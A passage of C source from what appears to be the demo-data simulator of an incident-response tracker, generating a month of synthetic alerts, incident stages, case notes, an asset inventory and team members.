	schedule(m, c, S_DECIDE, sc->outcome == RES_TRUE_POSITIVE ? 50 * MINUTE : 5 * HOUR);
	return rc;
}

static int step_decide(struct sim *m, struct dcase *c, const struct actor *who)
{
	struct demo_scen *sc = &m->sc[c->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	struct strbuf summary = STRBUF_INIT, field = STRBUF_INIT;
	char *a[8];
	int n = 0, rc;

	c->effort += demo_rng_range(&m->r, 10, 60);
	if (sc->outcome != RES_TRUE_POSITIVE) {
		int fp = sc->outcome == RES_FALSE_POSITIVE;
		rc = note(m, c, who, c->id, fp ? k->fp_note : k->benign_note,
			  fp ? demo_generic_fp : demo_generic_benign);
		if (!rc && k->tunable && (fp || demo_rng_pct(&m->r, 30)))
			rc = note(m, c, who, c->id, NULL, demo_generic_tuned);
		a[n++] = assign_int("confidence", fp ? demo_rng_range(&m->r, 5, 15) : demo_rng_range(&m->r, 20, 40));
		if (!rc)
			rc = set_fields(m, who, c->id, a, n);
		free_assign(a, n);
		return rc ? rc : case_close(m, c, who, sc->outcome, fp ? "false positive" : "benign");
	}
	case_text(m, c, (const char *const[]){ k->summary, NULL }, NULL, &summary);
	if (k->tp_sev >= 0)
		a[n++] = assign("severity", severity_name(k->tp_sev));
	a[n++] = assign_int("confidence", demo_rng_range(&m->r, 80, 98));
	a[n++] = assign("summary", summary.buf);
	case_text(m, c, k->vector, (const char *const[]){ "unknown", NULL }, &field);
	a[n++] = assign("vector", field.buf);
	case_text(m, c, k->threat, (const char *const[]){ "unknown", NULL }, &field);
	a[n++] = assign("threat_source", field.buf);
	rc = set_fields(m, who, c->id, a, n);
	free_assign(a, n);
	strbuf_free(&summary);
	strbuf_free(&field);
	if (rc)
		return rc;
	c->pathpos = 0;
	return case_advance(m, c);
}

static int step_stage(struct sim *m, struct dcase *c, const struct actor *who)
{
	struct demo_scen *sc = &m->sc[c->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	int stage = stage_of_letter(k->path[c->pathpos]);
	int cur = c->pathpos ? stage_of_letter(k->path[c->pathpos - 1]) : -1;
	int rc;

	/* Watching a recovered host now and then finds what the cleanup
	 * missed (the month's first recovery always does, so every demo
	 * shows a move back). */
	if (cur == STAGE_RECOVERY && strchr(k->path, 'e') &&
	    (!m->setbacks || demo_rng_pct(&m->r, 12))) {
		struct strbuf reason = STRBUF_INIT;
		case_text(m, c, NULL, demo_generic_missed, &reason);
		rc = lc_move(m, who, c->id, STAGE_ERADICATION, reason.buf);
		strbuf_free(&reason);
		if (rc)
			return rc;
		m->setbacks++;
		c->effort += demo_rng_range(&m->r, 30, 120);
		c->pathpos = (int)(strchr(k->path, 'e') - k->path) + 1;
		return case_advance(m, c);
	}
	if ((rc = case_move(m, c, who, stage, NULL)))
		return rc;
	c->pathpos++;
	if (stage == STAGE_ERADICATION && k->reinfect && demo_rng_pct(&m->r, k->reinfect))
		recur_later(m, c->scen, 6 * HOUR);
	return case_advance(m, c);
}

static int step_close(struct sim *m, struct dcase *c, const struct actor *who)
{
	struct demo_scen *sc = &m->sc[c->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	struct strbuf root = STRBUF_INIT;
	int rc;

	case_text(m, c, k->root, (const char *const[]){ "under review", NULL }, &root);
	char *a[1] = { assign("root_cause", root.buf) };
	rc = set_fields(m, who, c->id, a, 1);
	free_assign(a, 1);
	strbuf_free(&root);
	if (!rc)
		rc = case_close(m, c, who, RES_TRUE_POSITIVE, "resolved");
	/* The first closed case that can come back does (a reopen for the
	 * KPIs); later ones by their odds. */
	if (!rc && k->reopen && (!m->reopens || demo_rng_pct(&m->r, k->reopen))) {
		m->reopens++;
		recur_later(m, c->scen, 2 * DAY);
	}
	return rc;
}

static int run_work(struct sim *m, const struct event *e)
{
	struct dcase *c = &m->cs[e->cs];

	if (e->gen != c->gen)
		return IRK_OK;   /* superseded (the incident was set back) */
	if (e->t > m->now)
		m->now = e->t;
	irk_clock_set(m->now);
	if (c->step == S_CLAIM)
		return step_claim(m, c);
	struct actor who = actor_of(c->analyst);
	switch (c->step) {
	case S_TRIAGE: return step_triage(m, c, &who);
	case S_DECIDE: return step_decide(m, c, &who);
	case S_STAGE: return step_stage(m, c, &who);
	default: return step_close(m, c, &who);
	}
}

/* A value for an input of a play's manual step. A label listing choices
 * ("malicious, suspicious or benign", "yes or no") gets the first for a
 * true positive and the last otherwise; known names get what the scenario
 * knows; anything else refers to the notes. */
static void step_input(void *arg, int64_t id, const char *name, const char *label,
		       struct strbuf *out)
{
	static const struct { const char *name, *tp, *other; } known[] = {
		{ "account", "{user}", "none" }, { "user", "{user}", "{user}" },
		{ "hosts", "{host}", "{host}" }, { "other_hosts", "{hosts}", "none" },
		{ "c2", "{ext}", "none" }, { "destination", "{ext}", "{ext}" },
		{ "sender_domain", "{dom}", "{dom}" }, { "clicked", "{user}", "nobody" },
		{ "recipients", "14", "3" }, { "ticket", "{chg}", "{chg}" },
		{ "evidence", "case folder {key}", "case folder {key}" },
		{ "report", "post-incident review of {key} on the wiki", "notes of {key}" },
		{ "path", "C:\\ProgramData\\{proc}", "none" }, { "pid", "4711", "none" },
		{ "volume", "about 2 GB", "a few MB" }, { "peak", "3 Gbit/s", "none" },
		{ "police_ref", "none yet", "none" }, { "intrusion", "yes", "no" },
		{ "file", "{file}", "{file}" },
		{ "decision", "not reportable: no personal data affected", "nothing to report" },
	};
	struct sim *m = arg;
	const struct dcase *c = (size_t)id < m->ncase_of && m->case_of[id] ?
		&m->cs[m->case_of[id] - 1] : NULL;
	const struct demo_scen *sc = c ? &m->sc[c->scen] : NULL;
	const struct demo_kind *k = sc ? &demo_kinds[sc->kind] : NULL;
	int tp = sc && c->role == ROLE_PRIMARY && sc->outcome == RES_TRUE_POSITIVE;
	const char *or = strstr(label, " or ");
	char key[24];
	struct demo_text tx = { sc, NULL, incident_key(id, key, sizeof key), NULL, lead_name(),
		NULL, 0, &m->r };

	/* Choices: short words separated by commas and a final "or". */
	if (or && strlen(label) < 80 && !strpbrk(label, "/(")) {
		const char *last = or + 4, *first_end = strpbrk(label, ",");
		if (!first_end || first_end > or)
			first_end = or;
		if (tp)
			strbuf_add(out, label, (size_t)(first_end - label));
		else
			strbuf_puts(out, last);
		return;
	}
	if (k && (!strcmp(name, "root_cause") || !strcmp(name, "entry_point"))) {
		demo_expand(out, demo_rng_pick(&m->r, k->root ? k->root :
			    (const char *const[]){ "under review", NULL }), &tx);
		return;
	}
	if (k && !strcmp(name, "vector")) {
		strbuf_puts(out, k->vector ? k->vector[0] : "unknown");
		return;
	}
	if (!strcmp(name, "family")) {
		strbuf_puts(out, tp && k ? k->name : "unknown");
		return;
	}
	for (size_t i = 0; i < sizeof known / sizeof known[0]; i++)
		if (!strcmp(known[i].name, name)) {
			demo_expand(out, tp ? known[i].tp : known[i].other, &tx);
			return;
		}
}

/* ---- the run ------------------------------------------------------------------------ */

static int user_add(struct sim *m, const char *name, int role)
{
	int rc;

	if ((rc = store_begin(m->s, m->err)))
		return rc;
	if ((rc = store_user_put(m->s, m->admin, name, role, m->err))) {
		store_rollback(m->s);
		return rc;
	}
	return store_commit(m->s, m->err);
}

/* The organisation's asset inventory (irk asset list): every host of the
 * world with its unit, criticality, usual user, role, site and OS, as an
 * import would give it. No random numbers: the month stays the same. */
static int inventory(struct sim *m)
{
	static const struct { int kind; const char *role, *os; } kinds[] = {
		{ HK_WS, "workstation", "Windows 11" }, { HK_LAPTOP, "laptop", "Windows 11" },
		{ HK_WINSRV, "server", "Windows Server 2022" },
		{ HK_LINUX, "server", "Debian 12" }, { HK_DMZ, "internet-facing", "Debian 12" },
		{ HK_WEB, "web server", "Debian 12" }, { HK_SCANNER, "scanner", "Debian 12" },
		{ HK_CLOUD, "cloud account", NULL }, { HK_DC, "domain controller", "Windows Server 2022" } };
	int rc;

	if ((rc = store_begin(m->s, m->err)))
		return rc;
	for (int i = 0; i < demo_nhosts && !rc; i++) {
		const struct demo_host *h = &demo_hosts[i];
		char contact[64], tags[64];
		struct asset a = { 0 };

		snprintf(contact, sizeof contact, "%s-it@example.com", demo_unit_name(h->unit));
		snprintf(tags, sizeof tags, "%s%s", h->crit == 4 ? "crown-jewel " : "",
			 h->ip && !strncmp(h->ip, "172.16.", 7) ? "dmz" : h->ip ? "internal" : "cloud");
		a.host = (char *)h->name;
		a.ips = (char *)h->ip;
		a.owner = (char *)(h->user ? h->user : demo_unit_name(h->unit));
		a.business_unit = (char *)demo_unit_name(h->unit);
		a.criticality = h->crit;
		for (size_t k = 0; k < sizeof kinds / sizeof kinds[0]; k++)
			if (h->kind == kinds[k].kind) {
				a.role = (char *)kinds[k].role;
				a.os = (char *)kinds[k].os;
			}
		a.site = (char *)(!h->ip ? "cloud" : !strncmp(h->ip, "172.16.", 7) ? "fra1-dmz" : "fra1");
		a.tags = tags;
		a.contact = contact;
		a.source = (char *)"inventory";
		a.fetched = m->now;
		rc = store_asset_put(m->s, &a, m->err);
	}
	if (rc) {
		store_rollback(m->s);
		return rc;
	}
	return store_commit(m->s, m->err);
}

/* Register team members whose start date has come. */
static int team_join(struct sim *m, int64_t t)
{
	for (int i = 0; i < demo_nteam && i < 16; i++) {
		int64_t at = m->start + (int64_t)(demo_team[i].joins * m->days * DAY) - DAY;
		int rc;
		if (m->added[i] || at > t)
			continue;
		if (at > m->now)
			m->now = at;
		irk_clock_set(m->now);
		if ((rc = user_add(m, demo_team[i].name, demo_team[i].role)))
			return rc;
		m->added[i] = 1;
	}
	return IRK_OK;
}

static void progress(struct sim *m, int64_t t)
{
	m->progress_day = (t - m->start) / DAY;
	if (!m->progress)
		return;
	fprintf(m->progress, "\rirk demo: day %lld of %d, %lld alerts, %lld incidents ",
		(long long)m->progress_day + 1, m->days, (long long)m->ist.added,
		(long long)m->ist.incidents);
	fflush(m->progress);
}

int demo_fill(struct store *s, const struct demo_opts *o, struct demo_stats *st,
	      struct irk_err *err)
{
	struct sim m;
	int64_t counts[STAGE_COUNT];
	int rc = IRK_OK;

	memset(&m, 0, sizeof m);
	m.s = s;
	m.err = err;
	m.days = o->days > 0 ? o->days : 30;
	m.end = o->end ? o->end : irk_now();
	m.start = m.end - (int64_t)m.days * DAY;
	m.now = m.start - 2 * DAY;
	m.r.s = 0x6A09E667F3BCC908ULL ^ ((uint64_t)o->seed * 0x9E3779B97F4A7C15ULL);
	m.progress = o->progress;
	m.progress_day = -1;
	m.admin = identity_name();
	if (o->ingest)
		m.io = *o->ingest;
	else
		ingest_opts_init(&m.io);
	/* The demo's cloud feed has its own layout; nothing it writes is
	 * rejected, so there is nothing to report on a terminal either. */
	m.io.map = &demo_mapping;
	m.io.format = FMT_AUTO;
	m.io.errout = NULL;
	if (!m.io.window)
		m.io.window = config_settings(NULL)->ingest.window;
	m.io.actor = "ingest";
	m.steps = (struct demo_stepper){ s, &m.r, &m.now, m.end, step_input, &m, err };
	irk_clock_set(m.now);
	/* Whoever runs the demo set the database up, before the period. */
	if (store_user_count(s) == 0)
		rc = user_add(&m, m.admin, ROLE_ADMIN);
	if (!rc)
		rc = inventory(&m);
	plan(&m);
	m.ing = ingest_begin(s, &m.io);
	store_bulk_begin(s);
	/* A simulated day at a time in one real transaction: the lifecycle
	 * functions' own transactions become savepoints inside it. */
	if (!rc)
		rc = store_group_begin(s, err);
	while (!rc && m.h.n) {
		struct event e = heap_pop(&m.h);
		if (e.t >= m.end)
			break;
		if ((e.t - m.start) / DAY > m.progress_day) {
			if ((rc = store_group_end(s, 1, err)) || (rc = store_group_begin(s, err)))
				break;
			progress(&m, e.t);
		}
		if ((rc = team_join(&m, e.t)))
			break;
		if (e.type == EV_ALERT)
			rc = run_alerts(&m, e);
		else if (e.type == EV_RECUR)
			run_recur(&m, &e);
		else
			rc = run_work(&m, &e);
	}
	if (!rc)
		rc = team_join(&m, m.end);
	if (!rc)
		rc = store_group_end(s, 1, err);
	/* The line so far counted up to the start of the last day: end it
	 * with the whole period, the numbers the summary gives. */
	if (!rc)
		progress(&m, m.end - 1);
	else
		store_group_end(s, 0, NULL);
	store_bulk_end(s);
	ingest_end(&m.ing);
	irk_clock_set(0);
	if (m.progress)
		fputc('\n', m.progress);
	if (!rc && !(rc = store_incident_counts(s, counts, err))) {
		st->alerts = m.ist.added;
		st->incidents = 0;
		for (int i = 0; i < STAGE_COUNT; i++)
			st->incidents += counts[i];
		st->closed = counts[STAGE_CLOSED];
		st->users = demo_nteam;
	}
	free(m.h.v);
	free(m.sc);
	free(m.cs);
	free(m.case_of);
	return rc;
}
